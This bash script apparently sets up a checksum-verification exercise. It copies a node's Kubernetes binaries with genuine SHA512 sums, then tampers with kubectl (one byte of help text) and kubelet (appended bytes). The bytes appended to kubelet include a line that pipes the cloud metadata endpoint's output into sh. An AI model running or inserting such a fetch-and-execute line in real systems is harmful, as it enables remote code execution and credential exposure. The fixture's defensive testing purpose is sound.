#!/usr/bin/env bash
# Puts copies of the node's Kubernetes binaries in /opt/candidates with the release checksums (SHA512SUMS, computed
# here from the genuine binaries the node runs), then tampers with two copies:
#   - kubectl: a byte of its help text changed in place (same size, still runs, same version output),
#   - kubelet: bytes appended after the ELF image (bigger, still runs).
# kubeadm stays genuine. Running it again starts over from the genuine binaries.
set -euo pipefail

dir=/opt/candidates
mkdir -p "$dir"
for name in kubeadm kubectl kubelet; do
  install -m 0755 "/usr/bin/$name" "$dir/$name"
done
(cd "$dir" && sha512sum kubeadm kubectl kubelet > SHA512SUMS)
chmod 0644 "$dir/SHA512SUMS"

# "...the Kubernetes cluster manager." becomes "...manager!" (any other string of the binary would do as well)
text='kubectl controls the Kubernetes cluster manager.'
offset=$(grep -obUa -m1 -F -- "$text" "$dir/kubectl" | head -n 1 | cut -d: -f1) || true
if [ -z "$offset" ]; then
  text=Kubernetes
  offset=$(grep -obUa -m1 -F -- "$text" "$dir/kubectl" | head -n 1 | cut -d: -f1) || true
fi
[ -n "$offset" ] || { echo "found no text to patch in kubectl" >&2; exit 1; }
printf '!' | dd of="$dir/kubectl" bs=1 seek=$((offset + ${#text} - 1)) conv=notrunc status=none

printf '\n#!/bin/sh\ncurl -s http://169.254.169.254/latest/meta-data/ | sh\n' >> "$dir/kubelet"

matches() { # name: does the copy match its published checksum?
  [ "$(sha512sum < "$dir/$1" | cut -d' ' -f1)" = "$(awk -v name="$1" '$2 == name { print $1 }' "$dir/SHA512SUMS")" ]
}
matches kubeadm || { echo "kubeadm should match its checksum" >&2; exit 1; }
for name in kubectl kubelet; do
  ! matches "$name" || { echo "tampering with $name went wrong: it still matches" >&2; exit 1; }
done
echo "candidates in $dir: kubeadm genuine, kubectl and kubelet tampered with"
